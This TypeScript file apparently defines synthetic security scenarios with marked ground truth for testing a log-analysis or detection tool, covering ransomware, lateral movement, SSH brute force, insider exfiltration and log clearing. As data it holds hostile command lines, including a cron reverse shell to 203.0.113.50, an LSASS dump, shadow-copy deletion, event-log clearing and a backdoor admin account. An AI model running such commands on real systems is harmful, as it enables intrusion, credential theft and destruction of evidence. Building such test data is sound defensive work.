// The built-in synthetic scenarios: each an attack among ordinary activity, with the attack's records marked (ground truth).
import { ScenarioBuilder, type Proc } from './builder.js';

export interface ScenarioDefinition {
  readonly name: string;
  readonly title: string;
  readonly description: string;
  readonly hosts: readonly string[];
  /** Techniques the attack uses (what a good analysis tags). */
  readonly techniques: readonly string[];
  /** Loader options the records need (syslog year). */
  readonly year: number;
  build(): ScenarioBuilder;
}

const START = Date.UTC(2024, 2, 12, 8, 0, 0);

/** Ordinary Windows workstation activity: browser, office, updates, service traffic. */
function windowsBackground(b: ScenarioBuilder, host: string, user: string, from: number, to: number, logonId: string): void {
  const explorer = b.proc('C:\\Windows\\explorer.exe');
  const services = b.proc('C:\\Windows\\System32\\services.exe');
  const svchost = b.spawn(from, host, false, services, 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p', 'NT AUTHORITY\\SYSTEM');
  const apps = [
    ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"OUTLOOK.EXE"'],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"EXCEL.EXE" /dde'],
    ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\Public\\todo.txt'],
    ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -File C:\\IT\\inventory.ps1'],
    ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c ipconfig /all'],
  ] as const;
  let t = from;
  while (t < to) {
    t += b.rng.int(20, 90);
    const [image, cmd] = b.rng.pick(apps);
    const p = b.spawn(t, host, false, explorer, image, cmd, user, { logonId });
    // Browsers and mail talk to the internet; the admin script and shells only to the file server.
    if (/chrome|OUTLOOK|EXCEL/.test(image) && b.rng.next() < 0.7) b.connect(t + 2, host, false, p, b.rng.pick(['142.250.74.100', '52.96.165.18', '13.107.42.14']), 443);
    else if (b.rng.next() < 0.3) b.connect(t + 2, host, false, p, '10.0.0.53', 53);
    if (b.rng.next() < 0.4) b.fileCreate(t + 3, host, false, p, `C:\\Users\\${user.split('\\').pop() ?? 'user'}\\Documents\\report-${b.rng.int(1, 999)}.xlsx`);
    if (b.rng.next() < 0.2) b.connect(t + 4, host, false, svchost, '10.0.0.10', 445);
  }
}

const ransomware: ScenarioDefinition = {
  name: 'ransomware',
  title: 'Ransomware on one workstation',
  description: 'A macro document starts an encoded PowerShell download; the dropped binary deletes shadow copies, sets a Run key and encrypts files.',
  hosts: ['FIN-WS07'],
  techniques: ['T1059.001', 'T1105', 'T1490', 'T1547.001', 'T1486'],
  year: 2024,
  build() {
    const b = new ScenarioBuilder(START, 11);
    const host = 'FIN-WS07';
    const user = 'CORP\\jdoe';
    b.logon(0, host, false, user, 2, null, '0x5a1f2');
    windowsBackground(b, host, user, 5, 1800, '0x5a1f2');
    const explorer = b.proc('C:\\Windows\\explorer.exe');
    const word = b.spawn(1900, host, false, explorer, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" C:\\Users\\jdoe\\Downloads\\invoice_0312.docm', user, { logonId: '0x5a1f2' });
    const ps = b.spawn(1930, host, true, word, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', user, { security: true, logonId: '0x5a1f2' });
    b.connect(1932, host, true, ps, '185.220.101.47', 443);
    b.fileCreate(1935, host, true, ps, 'C:\\Users\\Public\\svchst.exe');
    const mal = b.spawn(1940, host, true, ps, 'C:\\Users\\Public\\svchst.exe', 'C:\\Users\\Public\\svchst.exe --run', user, { security: true, logonId: '0x5a1f2' });
    b.spawn(1945, host, true, mal, 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', user, { security: true, logonId: '0x5a1f2' });
    b.spawn(1947, host, true, mal, 'C:\\Windows\\System32\\wbadmin.exe', 'wbadmin delete catalog -quiet', user, { logonId: '0x5a1f2' });
    b.sysmon(1950, host, true, 13, 'registry.set', mal, { type: 'registry', name: 'HKU\\S-1-5-21-1004\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\svchst' }, { Details: 'C:\\Users\\Public\\svchst.exe' });
    for (let i = 0; i < 30; i++) {
      const f = `C:\\Users\\jdoe\\Documents\\Finance\\q${(i % 4) + 1}-ledger-${i}.xlsx`;
      b.sysmon(1960 + i, host, true, 11, 'file.rename', mal, { type: 'file', name: `${f}.locked` }, { TargetFilename: `${f}.locked` });
    }
    b.fileCreate(2000, host, true, mal, 'C:\\Users\\jdoe\\Desktop\\README_DECRYPT.txt');
    windowsBackground(b, host, user, 2010, 2600, '0x5a1f2');
    return b;
  },
};

const lateral: ScenarioDefinition = {
  name: 'lateral-movement',
  title: 'Lateral movement with PsExec and WMI',
  description: 'From a workstation, stolen admin credentials start a PsExec service on a server, dump LSASS there, then use WMI to run encoded PowerShell on a third host.',
  hosts: ['WS01', 'SRV02', 'SRV03'],
  techniques: ['T1569.002', 'T1021.002', 'T1543.003', 'T1003.001', 'T1047', 'T1059.001', 'T1087.001'],
  year: 2024,
  build() {
    const b = new ScenarioBuilder(START + 86_400_000, 23);
    b.hostIps.set('WS01', '10.0.1.31').set('SRV02', '10.0.2.20').set('SRV03', '10.0.2.30');
    const admin = 'CORP\\svc-backup';
    b.logon(0, 'WS01', false, 'CORP\\asmith', 2, null, '0x77aa1');
    windowsBackground(b, 'WS01', 'CORP\\asmith', 5, 1500, '0x77aa1');
    windowsBackground(b, 'SRV02', 'CORP\\svc-sql', 5, 1500, '0x3e7');
    // Ordinary admin work: a backup service installed by the IT tool, an RDP logon.
    b.win(300, 'SRV02', false, { action: 'service.install', actor: null, object: { type: 'service', name: 'Veeam Backup Agent' }, summary: 'Service Control Manager 7045: service.install', attributes: { eventId: 7045, provider: 'Service Control Manager', channel: 'System', imagePath: '"C:\\Program Files\\Veeam\\Agent\\VeeamAgent.exe"' } });
    b.logon(400, 'SRV02', false, 'CORP\\itadmin', 10, '10.0.1.15', '0x9001');
    const cmdWs = b.spawn(1600, 'WS01', true, b.proc('C:\\Windows\\explorer.exe'), 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', 'CORP\\asmith', { logonId: '0x77aa1' });
    const psexec = b.spawn(1610, 'WS01', true, cmdWs, 'C:\\Tools\\PsExec64.exe', 'PsExec64.exe \\\\SRV02 -u CORP\\svc-backup -s cmd.exe', 'CORP\\asmith', { security: true, logonId: '0x77aa1' });
    b.connect(1611, 'WS01', true, psexec, '10.0.2.20', 445);
    b.logon(1612, 'SRV02', true, admin, 3, '10.0.1.31', '0xc0ffe');
    b.win(1613, 'SRV02', true, { action: 'service.install', actor: { type: 'user', name: 'LocalSystem' }, object: { type: 'service', name: 'PSEXESVC' }, summary: 'Service Control Manager 7045: service.install PSEXESVC', attributes: { eventId: 7045, provider: 'Service Control Manager', channel: 'System', imagePath: '%SystemRoot%\\PSEXESVC.exe' } });
    const services = b.proc('C:\\Windows\\System32\\services.exe');
    const svc = b.spawn(1614, 'SRV02', true, services, 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', 'NT AUTHORITY\\SYSTEM', { security: true });
    b.sysmon(1614.5, 'SRV02', true, 18, 'windows.event', svc, { type: 'log', name: 'Microsoft-Windows-Sysmon/Operational' }, { PipeName: '\\PSEXESVC-WS01-4012-stdin' });
    const cmd = b.spawn(1615, 'SRV02', true, svc, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', admin, { security: true, logonId: '0xc0ffe' });
    b.spawn(1630, 'SRV02', true, cmd, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all', admin, { logonId: '0xc0ffe' });
    b.spawn(1640, 'SRV02', true, cmd, 'C:\\Windows\\System32\\net.exe', 'net localgroup administrators', admin, { logonId: '0xc0ffe' });
    const dump = b.spawn(1660, 'SRV02', true, cmd, 'C:\\Windows\\Temp\\pd.exe', 'C:\\Windows\\Temp\\pd.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp', admin, { security: true, logonId: '0xc0ffe' });
    b.sysmon(1661, 'SRV02', true, 10, 'process.access', dump, { type: 'process', name: 'C:\\Windows\\System32\\lsass.exe' }, { TargetImage: 'C:\\Windows\\System32\\lsass.exe', TargetProcessId: '644' }, { grantedAccess: '0x1fffff' });
    b.fileCreate(1662, 'SRV02', true, dump, 'C:\\Windows\\Temp\\l.dmp');
    const wmic = b.spawn(1700, 'SRV02', true, cmd, 'C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic /node:SRV03 process call create "powershell -enc JABjAD0ATgBlAHcA"', admin, { security: true, logonId: '0xc0ffe' });
    b.connect(1701, 'SRV02', true, wmic, '10.0.2.30', 135);
    b.logon(1702, 'SRV03', true, admin, 3, '10.0.2.20', '0xbeef1');
    const wmiprvse = b.proc('C:\\Windows\\System32\\wbem\\WmiPrvSE.exe');
    const ps = b.spawn(1703, 'SRV03', true, wmiprvse, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -enc JABjAD0ATgBlAHcA', admin, { security: true, logonId: '0xbeef1' });
    b.connect(1705, 'SRV03', true, ps, '45.77.12.9', 8443);
    windowsBackground(b, 'SRV03', 'CORP\\svc-web', 1000, 2400, '0x3e7');
    return b;
  },
};

const sshBruteForce: ScenarioDefinition = {
  name: 'ssh-bruteforce',
  title: 'SSH brute force, sudo, persistence on Linux',
  description: 'Password guessing from one address succeeds for a weak account, which then uses sudo to add a backdoor user with sudo rights, a root cron job and an SSH key, and wipes shell history.',
  hosts: ['web01'],
  techniques: ['T1110.001', 'T1078', 'T1021.004', 'T1548.003', 'T1136.001', 'T1098', 'T1053.003', 'T1098.004', 'T1070.003'],
  year: 2024,
  build() {
    const b = new ScenarioBuilder(START + 2 * 86_400_000, 37);
    const h = 'web01';
    let pid = 2000;
    const sshd = (): string => `sshd[${pid++}]`;
    // Ordinary: admins log in with keys and run package updates; cron runs jobs.
    for (let i = 0; i < 12; i++) {
      const t = i * 400;
      const who = i % 2 === 0 ? 'alice' : 'bob';
      b.auth(t, h, false, sshd(), `Accepted publickey for ${who} from 10.0.0.${5 + (i % 3)} port ${40000 + i} ssh2: RSA SHA256:abc${i}`);
      b.auth(t + 1, h, false, `sshd[${pid}]`, `pam_unix(sshd:session): session opened for user ${who} by (uid=0)`);
      b.auth(t + 30, h, false, 'sudo', `   ${who} : TTY=pts/${i % 4} ; PWD=/home/${who} ; USER=root ; COMMAND=/usr/bin/apt-get ${i % 3 === 0 ? 'update' : 'upgrade -y'}`);
      b.auth(t + 200, h, false, `sshd[${pid}]`, `pam_unix(sshd:session): session closed for user ${who}`);
      b.auth(t + 300, h, false, `CRON[${pid++}]`, '(root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily ))');
    }
    // A few ordinary typos.
    b.auth(950, h, false, sshd(), 'Failed password for alice from 10.0.0.5 port 40990 ssh2');
    const attacker = '203.0.113.50';
    let t = 5000;
    for (let i = 0; i < 40; i++) {
      t += 2;
      const u = b.rng.pick(['root', 'admin', 'oracle', 'deploy', 'test']);
      if (u === 'admin' || u === 'oracle' || u === 'test') {
        b.auth(t, h, true, sshd(), `Invalid user ${u} from ${attacker} port ${50000 + i}`);
        b.auth(t + 1, h, true, `sshd[${pid - 1}]`, `Failed password for invalid user ${u} from ${attacker} port ${50000 + i} ssh2`);
      } else b.auth(t, h, true, sshd(), `Failed password for ${u} from ${attacker} port ${50000 + i} ssh2`);
    }
    t += 5;
    b.auth(t, h, true, sshd(), `Accepted password for deploy from ${attacker} port 51999 ssh2`);
    b.auth(t + 1, h, true, `sshd[${pid - 1}]`, 'pam_unix(sshd:session): session opened for user deploy by (uid=0)');
    b.auth(t + 2, h, true, 'systemd-logind[612]', 'New session 77 of user deploy.');
    const sudo = (dt: number, cmd: string): void => b.auth(t + dt, h, true, 'sudo', `  deploy : TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND=${cmd}`);
    sudo(60, '/usr/bin/id');
    sudo(90, '/usr/sbin/useradd -m -s /bin/bash sysupdate');
    b.auth(t + 91, h, true, 'useradd[3101]', 'new user: name=sysupdate, UID=1002, GID=1002, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/3');
    sudo(120, '/usr/sbin/usermod -aG sudo sysupdate');
    b.auth(t + 121, h, true, 'usermod[3110]', "add 'sysupdate' to group 'sudo'");
    sudo(150, '/usr/bin/crontab -u root /tmp/.c');
    sudo(180, '/usr/bin/tee -a /root/.ssh/authorized_keys');
    sudo(240, '/usr/bin/shred -u /home/deploy/.bash_history');
    b.auth(t + 400, h, true, `CRON[${pid++}]`, '(root) CMD (/bin/bash -c "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1")');
    b.auth(t + 600, h, false, `sshd[${pid}]`, 'pam_unix(sshd:session): session closed for user deploy');
    return b;
  },
};

const insider: ScenarioDefinition = {
  name: 'insider-exfiltration',
  title: 'Insider data staging and exfiltration',
  description: 'An employee copies HR shares into a public folder, archives them with 7-Zip and uploads the archive to cloud storage with rclone.',
  hosts: ['HR-LT03'],
  techniques: ['T1074.001', 'T1560.001', 'T1567.002', 'T1048'],
  year: 2024,
  build() {
    const b = new ScenarioBuilder(START + 3 * 86_400_000, 41);
    const host = 'HR-LT03';
    const user = 'CORP\\mallory';
    b.logon(0, host, false, user, 2, null, '0x4d2a');
    windowsBackground(b, host, user, 5, 2500, '0x4d2a');
    const explorer: Proc = b.proc('C:\\Windows\\explorer.exe');
    const cmd = b.spawn(2600, host, true, explorer, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', user, { logonId: '0x4d2a' });
    const robo = b.spawn(2610, host, true, cmd, 'C:\\Windows\\System32\\Robocopy.exe', 'robocopy \\\\fs01\\HR\\Payroll C:\\Users\\Public\\Libraries\\p /E', user, { security: true, logonId: '0x4d2a' });
    b.connect(2611, host, true, robo, '10.0.0.10', 445);
    for (let i = 0; i < 6; i++) b.fileCreate(2612 + i, host, true, robo, `C:\\Users\\Public\\Libraries\\p\\payroll-2024-${String(i + 1).padStart(2, '0')}.xlsx`);
    const zip = b.spawn(2700, host, true, cmd, 'C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a -pS3cret C:\\Users\\Public\\p.7z C:\\Users\\Public\\Libraries\\p', user, { security: true, logonId: '0x4d2a' });
    b.fileCreate(2720, host, true, zip, 'C:\\Users\\Public\\p.7z');
    const rclone = b.spawn(2800, host, true, cmd, 'C:\\Users\\mallory\\AppData\\Local\\rc\\rclone.exe', 'rclone.exe copy C:\\Users\\Public\\p.7z mega:backup --transfers 4', user, { security: true, logonId: '0x4d2a' });
    b.connect(2801, host, true, rclone, '31.216.148.11', 443);
    b.connect(2802, host, true, rclone, '31.216.148.12', 443);
    b.spawn(2900, host, true, cmd, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c del /q C:\\Users\\Public\\p.7z', user, { logonId: '0x4d2a' });
    windowsBackground(b, host, user, 2950, 3600, '0x4d2a');
    return b;
  },
};

const logClearing: ScenarioDefinition = {
  name: 'log-clearing',
  title: 'Intruder who clears the logs',
  description: 'An RDP logon to a domain controller creates a hidden admin account, changes the audit policy and the clock, timestomps a tool and clears the Security and System logs.',
  hosts: ['DC01'],
  techniques: ['T1021.001', 'T1136.001', 'T1098', 'T1685.001', 'T1070.006', 'T1685.005'],
  year: 2024,
  build() {
    const b = new ScenarioBuilder(START + 4 * 86_400_000, 53);
    const host = 'DC01';
    windowsBackground(b, host, 'CORP\\dcadmin', 0, 1500, '0x3e7');
    const intruder = 'CORP\\helpdesk2';
    b.logon(1600, host, true, intruder, 10, '10.0.5.99', '0xabc01');
    const explorer = b.proc('C:\\Windows\\explorer.exe');
    const cmd = b.spawn(1620, host, true, explorer, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', intruder, { security: true, logonId: '0xabc01' });
    b.spawn(1630, host, true, cmd, 'C:\\Windows\\System32\\net.exe', 'net user support$ P@ssw0rd! /add', intruder, { security: true, logonId: '0xabc01' });
    b.security(1631, host, true, 4720, 'account.create', { type: 'user', name: intruder }, { type: 'user', name: 'CORP\\support$' });
    b.spawn(1640, host, true, cmd, 'C:\\Windows\\System32\\net.exe', 'net localgroup administrators support$ /add', intruder, { security: true, logonId: '0xabc01' });
    b.security(1641, host, true, 4732, 'account.group.add', { type: 'user', name: intruder }, { type: 'user', name: 'CORP\\support$' }, { group: 'Administrators' });
    b.spawn(1650, host, true, cmd, 'C:\\Windows\\System32\\auditpol.exe', 'auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable', intruder, { security: true, logonId: '0xabc01' });
    b.security(1651, host, true, 4719, 'windows.event', { type: 'user', name: intruder }, { type: 'log', name: 'Security' });
    const tool = b.spawn(1660, host, true, cmd, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -c "(Get-Item C:\\Windows\\Temp\\t.exe).CreationTime = \'2019-01-01\'"', intruder, { security: true, logonId: '0xabc01' });
    b.sysmon(1661, host, true, 2, 'windows.event', tool, { type: 'file', name: 'C:\\Windows\\Temp\\t.exe' }, { TargetFilename: 'C:\\Windows\\Temp\\t.exe', CreationUtcTime: '2019-01-01 00:00:00.000', PreviousCreationUtcTime: '2024-03-16 08:27:40.000' });
    b.spawn(1670, host, true, cmd, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c date 01-01-2024', intruder, { logonId: '0xabc01' });
    b.security(1671, host, true, 4616, 'windows.event', { type: 'user', name: intruder }, { type: 'host', name: host }, { data: { ProcessName: 'C:\\Windows\\System32\\cmd.exe' } });
    b.spawn(1680, host, true, cmd, 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl Security', intruder, { logonId: '0xabc01' });
    b.win(1681, host, true, { action: 'log.clear', actor: { type: 'user', name: intruder }, object: { type: 'log', name: 'Security' }, summary: 'Microsoft-Windows-Eventlog 1102: log.clear Security', attributes: { eventId: 1102, provider: 'Microsoft-Windows-Eventlog', channel: 'Security' } });
    b.spawn(1690, host, true, cmd, 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl System', intruder, { logonId: '0xabc01' });
    b.win(1691, host, true, { action: 'log.clear', actor: { type: 'user', name: intruder }, object: { type: 'log', name: 'System' }, summary: 'Microsoft-Windows-Eventlog 104: log.clear System', attributes: { eventId: 104, provider: 'Microsoft-Windows-Eventlog', channel: 'System' } });
    windowsBackground(b, host, 'CORP\\dcadmin', 1700, 2400, '0x3e7');
    return b;
  },
};

/** Every built-in scenario, by name. */
export const SCENARIOS: readonly ScenarioDefinition[] = [ransomware, lateral, sshBruteForce, insider, logClearing];
